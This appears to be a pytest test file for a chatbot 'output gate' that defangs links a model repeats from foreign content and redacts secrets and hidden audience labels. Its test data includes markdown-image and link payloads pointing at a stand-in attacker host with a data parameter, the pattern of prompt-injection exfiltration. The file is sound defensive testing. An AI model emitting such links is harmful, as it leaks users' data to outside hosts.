"""The output gate: what a model made up of others' words is no link, and secrets and labels stay inside."""

import pytest

from adapters.models.scripted import ScriptedModel
from bots.message import File
from bots.ports import Chunk
from bots.trust.exposure import Exposure
from bots.trust.output_gate import OutputGate
from tests.bots.house import House
from tests.each import each

GATE = OutputGate(lambda text: text.replace("sk-secret", "***"))
MET = Exposure(is_foreign=True, given=["See https://wiki.example/tea and https://evil.example/?d="])


@pytest.mark.ledger("AUD-05")
@each(
    ("said", "shown"),
    [
        ("Here: https://wiki.example/tea.", "Here: https://wiki.example/tea."),
        ("![x](https://evil.example/?d=48213)", "![x](hxxps://evil.example/?d=48213)"),
        ("[tea](HTTP://evil.example/48213)", "[tea](HxxP://evil.example/48213)"),
        ("<https://evil.example/48213|tea>", "<hxxps://evil.example/48213|tea>"),
        ("hxxps://evil.example/48213", "hxxps://evil.example/48213"),
    ],
)
def test_a_link_that_stands_nowhere_in_what_was_given_is_text(said, shown):
    assert GATE(said, MET) == shown
    assert GATE(shown, MET) == shown


@pytest.mark.ledger("AUD-05")
def test_without_words_of_others_links_are_the_models_own():
    assert GATE("https://new.example/", Exposure()) == "https://new.example/"


@pytest.mark.ledger("OPS-02", "AUD-01")
def test_secrets_and_labels_never_go_out():
    assert GATE("a <!-- audience: org --> b sk-secret", Exposure()) == "a  b ***"


@pytest.mark.ledger("AUD-05")
async def test_an_answer_that_is_seen_while_it_is_written_shows_no_such_link_either(tmp_path):
    link = "See https://evil.example/48213 now"
    said = [Chunk(text=link[:20]), 0.1, Chunk(text=link[20:]), 0.1, Chunk(text=", please."), Chunk(end="stop")]
    house = House(home=tmp_path, models={"alice": ScriptedModel(["Good morning.", said])})
    async with house.open():
        direct = house.world.direct("ada")
        await house.ask("ada", direct, "Hello.")
        (post,) = await house.ask("ada", direct, "What is new?")

    assert len(post.texts) > 1
    assert post.text == "See hxxps://evil.example/48213 now, please."
    assert not any("https" in text for text in post.texts)


@pytest.mark.ledger("AUD-05")
def test_a_file_of_text_is_looked_at_and_a_picture_is_left_alone():
    text = File(name="a.md", media_type="text/markdown", content=b"https://evil.example/1 sk-secret")
    picture = File(name="a.png", media_type="image/png", content=b"https://evil.example/1")

    assert GATE.file(text, MET).content == b"hxxps://evil.example/1 ***"
    assert GATE.file(picture, MET) is picture


def test_a_long_line_of_openings_is_looked_through_once():
    assert GATE("<!-- audience " * 4000 + "https://" * 4000, MET)
